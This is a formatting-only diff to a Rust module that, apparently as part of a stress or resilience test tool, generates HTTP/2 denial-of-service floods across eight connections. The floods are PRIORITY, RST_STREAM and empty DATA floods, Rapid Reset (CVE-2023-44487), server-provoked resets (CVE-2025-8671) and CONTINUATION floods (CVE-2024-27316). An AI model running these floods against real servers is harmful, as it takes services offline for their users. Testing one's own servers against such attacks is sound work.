@@ -8,8 +8,8 @@ use tokio::time::{sleep, timeout};
 use super::aim::Aim;
 use super::attacker::Attacker;
 use super::frames::{
-    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, frame, head_of_post, post,
-    window_update,
+    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, frame,
+    head_of_post, post, window_update,
 };
 
 const CONNECTIONS: usize = 8;
@@ -29,7 +29,10 @@ const MINT: &str = "/ids/snowflake";
 /// The frames of one connection after its beginning.
 fn flood(aim: &Aim, frames: impl Iterator<Item = Vec<u8>>) -> JoinSet<()> {
     let frames: Vec<_> = frames.take(FRAMES).collect();
-    let pieces: Vec<_> = frames.chunks(FRAMES / PIECES).map(|piece| piece.concat()).collect();
+    let pieces: Vec<_> = frames
+        .chunks(FRAMES / PIECES)
+        .map(|piece| piece.concat())
+        .collect();
     aim.attackers(CONNECTIONS, move |aim, number| {
         let pieces = pieces.clone();
         async move {
@@ -62,12 +65,19 @@ pub(crate) fn window_updates(aim: &Aim) -> JoinSet<()> {
 }
 
 pub(crate) fn priorities(aim: &Aim) -> JoinSet<()> {
-    flood(aim, std::iter::repeat_with(|| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])))
+    flood(
+        aim,
+        std::iter::repeat_with(|| frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16])),
+    )
 }
 
 /// Of a request that was made once.
 pub(crate) fn resets(aim: &Aim) -> JoinSet<()> {
-    flood(aim, std::iter::once(post(1, MINT)).chain(std::iter::repeat_with(|| frame(RST_STREAM, 0, 1, &CANCEL))))
+    flood(
+        aim,
+        std::iter::once(post(1, MINT))
+            .chain(std::iter::repeat_with(|| frame(RST_STREAM, 0, 1, &CANCEL))),
+    )
 }
 
 /// Of a type that nobody has defined.
@@ -79,24 +89,43 @@ pub(crate) fn unknown(aim: &Aim) -> JoinSet<()> {
 /// Of a request that never ends.
 pub(crate) fn empty_data(aim: &Aim) -> JoinSet<()> {
     let begun = frame(HEADERS, END_HEADERS, 1, &head_of_post(MINT));
-    flood(aim, std::iter::once(begun).chain(std::iter::repeat_with(|| frame(DATA, 0, 1, &[]))))
+    flood(
+        aim,
+        std::iter::once(begun).chain(std::iter::repeat_with(|| frame(DATA, 0, 1, &[]))),
+    )
 }
 
 /// Requests, each reset at once: CVE-2023-44487.
 pub(crate) fn rapid_resets(aim: &Aim) -> JoinSet<()> {
     let streams = (0..).map(|stream| 2 * stream + 1);
-    flood(aim, streams.flat_map(|stream| [post(stream, MINT), frame(RST_STREAM, 0, stream, &CANCEL)]))
+    flood(
+        aim,
+        streams.flat_map(|stream| [post(stream, MINT), frame(RST_STREAM, 0, stream, &CANCEL)]),
+    )
 }
 
 /// Requests that make the server reset them, by a window update of nothing: CVE-2025-8671.
 pub(crate) fn resets_made_by_the_server(aim: &Aim) -> JoinSet<()> {
     let streams = (0..).map(|stream| 2 * stream + 1);
-    flood(aim, streams.flat_map(|stream| [post(stream, "/ids/snowflake?count=1000"), window_update(stream, 0)]))
+    flood(
+        aim,
+        streams.flat_map(|stream| {
+            [
+                post(stream, "/ids/snowflake?count=1000"),
+                window_update(stream, 0),
+            ]
+        }),
+    )
 }
 
 /// A head without end: CVE-2024-27316.
 pub(crate) fn continuations(aim: &Aim) -> JoinSet<()> {
     let begun = frame(HEADERS, 0, 1, &head_of_post(MINT));
     let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
-    flood(aim, std::iter::once(begun).chain(std::iter::repeat_with(move || frame(CONTINUATION, 0, 1, &field))))
+    flood(
+        aim,
+        std::iter::once(begun).chain(std::iter::repeat_with(move || {
+            frame(CONTINUATION, 0, 1, &field)
+        })),
+    )
 }
